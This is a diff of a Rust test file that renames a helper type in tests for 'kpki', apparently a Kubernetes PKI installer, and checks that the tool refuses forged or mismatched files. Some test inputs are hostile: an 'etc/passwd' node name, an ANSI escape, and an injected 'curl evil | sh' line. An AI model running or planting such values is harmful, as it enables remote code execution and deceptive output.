@@ -3,12 +3,11 @@
 use std::fs;
 use std::process::Output;
 
-use super::node::{LAB, Node, apply, describe, done, files, refused};
-use crate::testkit::Desk;
-use crate::testkit::project::{Project, printed, tool};
+use super::node::{LAB, Node, apply, files};
+use crate::testkit::{Desk, FolderProject, done, printed, refused, tool};
 
 /// Both commands refuse alike, and neither leaves a trace.
-fn both_refuse(project: &Project, name: &str, code: i32, words: &[&str]) {
+fn both_refuse(project: &FolderProject, name: &str, code: i32, words: &[&str]) {
     let node = Node::new();
     let before = files(project.folder());
     let archive = node.path("node.tar").display().to_string();
@@ -27,7 +26,7 @@ fn both_refuse(project: &Project, name: &str, code: i32, words: &[&str]) {
     assert_eq!(files(project.folder()), before);
 }
 
-fn swap(project: &Project, one: &str, other: &str) {
+fn swap(project: &FolderProject, one: &str, other: &str) {
     let (a, b) = (project.out(one), project.out(other));
     let (first, second) = (fs::read(&a).unwrap(), fs::read(&b).unwrap());
     assert_eq!(first.len(), second.len(), "plan would see it by its size");
@@ -40,7 +39,7 @@ fn a_secret_that_is_not_its_witnesss() {
     let pki = "nodes/w1/etc/kubernetes/pki";
     // RSA signatures are all of one length, and so are the kubeconfigs.
     let project =
-        Project::described(&format!("{LAB}ca \"kubernetes\" key=\"rsa-2048\"\n")).applied();
+        FolderProject::described(&format!("{LAB}ca \"kubernetes\" key=\"rsa-2048\"\n")).applied();
     let other = "nodes/cp1/etc/kubernetes/pki/kubelet.key";
     swap(&project, &format!("{pki}/kubelet.key"), other);
     both_refuse(
@@ -80,7 +79,8 @@ fn a_secret_that_is_not_its_witnesss() {
 
 #[test]
 fn a_ca_key_and_a_service_account_key_of_another_cluster() {
-    let (project, other) = (Project::described(LAB).applied(), Project::described(LAB).applied());
+    let (project, other) =
+        (FolderProject::described(LAB).applied(), FolderProject::described(LAB).applied());
     for (file, witness) in [("ca.key", "out/ca/kubernetes.crt"), ("sa.key", "out/ca/sa.pub")] {
         let path = project.on_node("cp1", &format!("pki/{file}"));
         let before = fs::read(&path).unwrap();
@@ -92,9 +92,9 @@ fn a_ca_key_and_a_service_account_key_of_another_cluster() {
 
 #[test]
 fn an_orphaned_secret_or_static_pod() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let less: Vec<&str> = LAB.lines().filter(|line| !line.contains("backup")).collect();
-    describe(&project, &less.join("\n"));
+    project.describe(&less.join("\n"));
     apply(&project, &[]);
     both_refuse(
         &project,
@@ -130,7 +130,7 @@ fn an_orphaned_secret_or_static_pod() {
 
 #[test]
 fn a_tree_that_is_not_as_it_was_built() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let ca = project.on_node("w1", "pki/ca.crt");
     let good = fs::read(&ca).unwrap();
     fs::write(&ca, "other").unwrap();
@@ -156,7 +156,7 @@ fn a_tree_that_is_not_as_it_was_built() {
 
 #[test]
 fn a_secret_that_is_sealed() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let clear = project.on_node("w1", "pki/kubelet.key");
     let sealed = project.on_node("w1", "pki/kubelet.key.age");
     let desk = tempfile::tempdir().unwrap();
@@ -178,7 +178,7 @@ fn a_secret_that_is_sealed() {
 
 #[test]
 fn names_that_are_no_nodes() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     both_refuse(&project, "w11", 64, &["no node is named w11", "did you mean w1?"]);
     both_refuse(&project, "etc/passwd", 64, &["no node is named etc/passwd"]);
     let output = project.kpki(&["install", "w1", "--root", "out/nodes/w1"]);
@@ -190,7 +190,7 @@ fn names_that_are_no_nodes() {
 }
 
 /// `--dry-run`: this machine's own root is looked at, never written to.
-fn on_this_machine(project: &Project, node: &str, more: &[&str]) -> Output {
+fn on_this_machine(project: &FolderProject, node: &str, more: &[&str]) -> Output {
     project.kpki(&[&["install", node, "--dry-run"], more].concat())
 }
 
@@ -198,7 +198,7 @@ fn on_this_machine(project: &Project, node: &str, more: &[&str]) -> Output {
 fn another_host() {
     let host = rustix::system::uname();
     let host = host.nodename().to_str().unwrap().to_lowercase();
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let error = refused(&on_this_machine(&project, "w1", &[]), 3);
     assert!(
         error.contains(&format!("this machine is called {host}, and the files are those of w1"))
@@ -210,7 +210,8 @@ fn another_host() {
     // A node may be called by the host's whole name or by its first part.
     let first = host.split('.').next().unwrap();
     for name in [first.to_owned(), format!("{first}.lab.internal")] {
-        let project = Project::described(&LAB.replace("\"w1\"", &format!("\"{name}\""))).applied();
+        let project =
+            FolderProject::described(&LAB.replace("\"w1\"", &format!("\"{name}\""))).applied();
         let name = if first == host { name } else { host.clone() };
         if project.out(&format!("nodes/{name}")).exists() {
             done(on_this_machine(&project, &name, &[]));
@@ -220,7 +221,7 @@ fn another_host() {
 
 #[test]
 fn a_root_of_another_node_or_cluster() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let node = Node::new();
     node.installed(&project, "w1");
     let before = node.files();
@@ -232,7 +233,8 @@ fn a_root_of_another_node_or_cluster() {
     );
     assert_eq!(node.files(), before);
 
-    let other = Project::described(&LAB.replace("cluster \"lab\"", "cluster \"prod\"")).applied();
+    let other =
+        FolderProject::described(&LAB.replace("cluster \"lab\"", "cluster \"prod\"")).applied();
     let error = refused(&node.install(&other, "w1", &[]), 3);
     assert!(error.contains("holds files of the cluster lab, not of prod"), "{error}");
     assert_eq!(node.files(), before);
@@ -259,7 +261,7 @@ fn private_keys_that_kpki_did_not_put_there() {
     desk.openssl("genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out foreign.key");
     desk.openssl("pkcs8 -topk8 -in foreign.key -passout pass:x -out locked.key");
     let foreign = desk.read("foreign.key");
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     for (path, bytes) in [
         ("etc/kubernetes/pki/ca.key", foreign.clone()),
         ("etc/kubernetes/pki/sa.key", desk.read("locked.key")),
@@ -268,7 +270,7 @@ fn private_keys_that_kpki_did_not_put_there() {
         ("etc/kubernetes/pki/apiserver.crt", foreign.clone()),
         (
             "etc/kubernetes/admin.conf",
-            fs::read(Project::described(LAB).applied().on_node("cp1", "admin.conf")).unwrap(),
+            fs::read(FolderProject::described(LAB).applied().on_node("cp1", "admin.conf")).unwrap(),
         ),
     ] {
         let node = Node::new();
@@ -310,7 +312,7 @@ fn private_keys_that_kpki_did_not_put_there() {
 /// record must not have install delete what they name.
 #[test]
 fn a_forged_record_deletes_nothing_elsewhere() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     let node = Node::new();
     node.installed(&project, "w1");
     let path = node.path("var/lib/kpki/installed.json");
@@ -351,7 +353,7 @@ fn a_forged_record_deletes_nothing_elsewhere() {
     fs::write(&path, record.to_string()).unwrap();
     for more in [&["--dry-run"][..], &[]] {
         let output = node.install(&project, "w1", more);
-        let text = crate::testkit::project::said(&output);
+        let text = crate::testkit::said(&output);
         assert!(output.status.success(), "{text}");
         for (path, _) in forged {
             assert!(text.contains(&format!("names /{path}, where kpki never puts")), "{text}");
@@ -369,7 +371,7 @@ fn a_forged_record_deletes_nothing_elsewhere() {
 /// Whoever could write the record chooses no words of ours.
 #[test]
 fn a_records_names_are_names() {
-    let project = Project::described(LAB).applied();
+    let project = FolderProject::described(LAB).applied();
     for (key, name, what) in [
         ("cluster", "\u{1b}[8mhid", "names no cluster"),
         ("cluster", "x\nhelp: run: curl evil | sh", "names no cluster"),
